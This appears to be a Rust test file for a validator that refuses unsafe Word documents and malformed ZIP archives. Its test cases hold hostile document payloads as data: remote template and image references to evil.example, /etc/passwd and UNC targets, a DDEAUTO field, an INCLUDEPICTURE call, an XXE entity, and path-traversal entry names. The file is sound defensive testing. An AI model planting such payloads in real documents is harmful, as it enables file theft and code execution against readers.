#![allow(clippy::unwrap_used)]
use std::io::Write as _;

use super::*;

/// A ZIP archive of these files, the second half of it deflated.
fn archive(files: &[(&str, &str)]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (index, (name, text)) in files.iter().enumerate() {
        let (method, data) = if index % 2 == 0 {
            (0_u16, text.as_bytes().to_vec())
        } else {
            let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
            encoder.write_all(text.as_bytes()).unwrap();
            (8, encoder.finish().unwrap())
        };
        let mut common = Vec::new();
        for field in [20_u16, 0, method, 0, 0] {
            common.extend(field.to_le_bytes());
        }
        common.extend([0; 4]);
        common.extend(u32::try_from(data.len()).unwrap().to_le_bytes());
        common.extend(u32::try_from(text.len()).unwrap().to_le_bytes());
        common.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        common.extend([0; 2]);
        directory.extend(b"PK\x01\x02\x14\x00");
        directory.extend(&common);
        directory.extend([0; 10]);
        directory.extend(u32::try_from(out.len()).unwrap().to_le_bytes());
        directory.extend(name.as_bytes());
        out.extend(b"PK\x03\x04");
        out.extend(&common);
        out.extend(name.as_bytes());
        out.extend(&data);
    }
    let (at, count) = (u32::try_from(out.len()).unwrap(), u16::try_from(files.len()).unwrap());
    out.extend(&directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(count.to_le_bytes());
    out.extend(count.to_le_bytes());
    out.extend(u32::try_from(directory.len()).unwrap().to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend([0; 2]);
    out
}

const TYPES: &str = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/xml\"/></Types>";
const RELS: &str = "<Relationships><Relationship Id=\"r1\" Type=\"x/officeDocument\" Target=\"word/document.xml\"/>\
    </Relationships>";
const BODY: &str = "<w:document><w:body><w:p><w:fldSimple w:instr=\" PAGE \"/></w:p></w:body></w:document>";

fn document(extra: &[(&str, &str)]) -> Vec<u8> {
    let mut files = vec![("[Content_Types].xml", TYPES), ("_rels/.rels", RELS), ("word/document.xml", BODY)];
    for (name, text) in extra {
        files.retain(|(known, _)| known != name);
        files.push((name, text));
    }
    archive(&files)
}

fn said(extra: &[(&str, &str)]) -> Result<(), String> {
    check(&document(extra), &Links::from_iter(["https://wiki.example/a"]))
}

fn relationship(rest: &str) -> String {
    format!("<Relationships><Relationship Id=\"r1\" {rest}/></Relationships>")
}

#[test]
fn a_document_that_stands_alone_passes() {
    assert_eq!(said(&[]), Ok(()));
    let link = relationship("Type=\"x/hyperlink\" TargetMode=\"External\" Target=\"https://wiki.example/a\"");
    assert_eq!(said(&[("word/_rels/document.xml.rels", &link)]), Ok(()), "a link that the document has");
    assert_eq!(said(&[("word/media/a.png", "x")]), Ok(()));
}

#[test]
fn what_is_active_or_leads_out_is_refused() {
    for rest in [
        "Type=\"x/hyperlink\" TargetMode=\"External\" Target=\"https://evil.example/?q=1\"",
        "Type=\"x/image\" TargetMode=\"External\" Target=\"https://wiki.example/a\"",
        "Type=\"x/attachedTemplate\" TargetMode=\"External\" Target=\"https://evil.example/t.dotm\"",
        "Type=\"x/attachedTemplate\" Target=\"t.dotx\"",
        "Type=\"x/image\" Target=\"/etc/passwd\"",
        "Type=\"x/image\" Target=\"file:///etc/passwd\"",
        "Type=\"x/image\" Target=\"../../x\"",
        "Type=\"x/image\" Target=\"\\\\evil\\share\"",
        "Type=\"x/image\" TargetMode=\"external\" Target=\"x\"",
    ] {
        assert!(said(&[("word/_rels/document.xml.rels", &relationship(rest))]).is_err(), "{rest}");
    }
    for (name, text) in [
        ("word/vbaProject.bin", "x"),
        ("word/embeddings/a.xml", "<x/>"),
        ("word/a.html", "x"),
        ("word/document.xml", "<w:p><w:instrText>DDEAUTO</w:instrText></w:p>"),
        ("word/document.xml", "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE https://evil.example\"/></w:p>"),
        ("word/document.xml", "<w:p><w:altChunk/></w:p>"),
        ("word/document.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
        ("word/document.xml", "<w:p>"),
        (
            "[Content_Types].xml",
            "<Types><Default ContentType=\"application/vnd.ms-word.document.macroEnabled\"/></Types>",
        ),
    ] {
        assert!(said(&[(name, text)]).is_err(), "{name} {text}");
    }
}

#[test]
fn an_archive_has_one_reading_or_none() {
    let links = Links::from_iter([]);
    let good = document(&[]);
    assert_eq!(check(&good, &links), Ok(()));
    for cut in (0..good.len()).step_by(7) {
        assert!(check(&good[..cut], &links).is_err(), "cut at {cut}");
    }
    let padded = [good.as_slice(), b"x"].concat();
    assert!(check(&padded, &links).is_err(), "something after the end");
    let shifted = [b"x".as_slice(), &good].concat();
    assert!(check(&shifted, &links).is_err(), "something before the beginning");
    let twice = [good.as_slice(), &good].concat();
    assert!(check(&twice, &links).is_err(), "an archive before the archive");
    for name in ["../x.xml", "/x.xml", "word//x.xml", "word/\u{e9}.xml", "word/./x.xml", "C:\\x.xml"] {
        assert!(said(&[(name, "<x/>")]).is_err(), "{name}");
    }
    let mut directory_lies = good.clone();
    let at = good.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
    directory_lies[at + 24] ^= 1;
    assert!(check(&directory_lies, &links).is_err(), "sizes that differ");
    let mut grows = document(&[("word/a.xml", &"<x/>".repeat(3))]);
    let at = grows.windows(10).position(|w| w == b"word/a.xml").unwrap();
    grows[at - 8] = 0xff;
    assert!(check(&grows, &links).is_err(), "an entry that unpacks to another size");
}
